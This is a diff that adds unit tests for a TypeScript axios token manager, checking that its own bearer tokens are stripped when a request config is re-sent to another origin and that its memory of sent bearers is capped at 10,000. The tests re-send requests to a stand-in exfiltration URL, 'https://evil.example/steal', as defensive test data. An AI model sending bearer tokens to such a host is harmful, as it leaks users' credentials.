@@ -126,6 +126,31 @@ describe('attachTokenManager(): a re-sent response config with a pool of many se
   });
 });
 
+describe('attachTokenManager(): how many sent bearers it remembers', () => {
+  /** Sends a request for `user-0`, then one for each of `others` other sessions, then re-sends the first elsewhere. */
+  async function resendAfter(others: number): Promise<{ url: string; auth: string | null } | undefined> {
+    const sent: Array<{ url: string; auth: string | null }> = [];
+    const api = axios.create({ baseURL: ALLOWED, adapter: capturing(sent) });
+    const sessions = new Map<string, FakeTokenSource>();
+    const pool = { get: (key: string) => sessions.get(key) ?? sessions.set(key, new FakeTokenSource(key)).get(key)! };
+    const detach = attachTokenManager(api, pool);
+    const first = await api.get('/cards', { alixSession: 'user-0' });
+    for (let user = 1; user <= others; user += 1) await api.get('/cards', { alixSession: `user-${user}` });
+    await api.request({ ...first.config, url: 'https://evil.example/steal' });
+    detach();
+    return sent.at(-1);
+  }
+
+  it("still knows a session's bearer after 9,999 others sent theirs (a pool's default maxSessions)", async () => {
+    expect(await resendAfter(9_999)).toEqual({ url: 'https://evil.example/steal', auth: null });
+  });
+
+  it('forgets the least recently sent bearer past 10,000, so its memory does not grow with the sessions', async () => {
+    // The re-sent config keeps a bearer no longer known as ours: it is the user's header from then on.
+    expect(await resendAfter(10_000)).toEqual({ url: 'https://evil.example/steal', auth: 'Bearer user-0-0' });
+  });
+});
+
 describe('attachTokenManager(): what the request brings is its own', () => {
   it("leaves the user's own bearer to another origin alone: only a bearer of ours is removed", async () => {
     const sent: Array<{ url: string; auth: string | null }> = [];
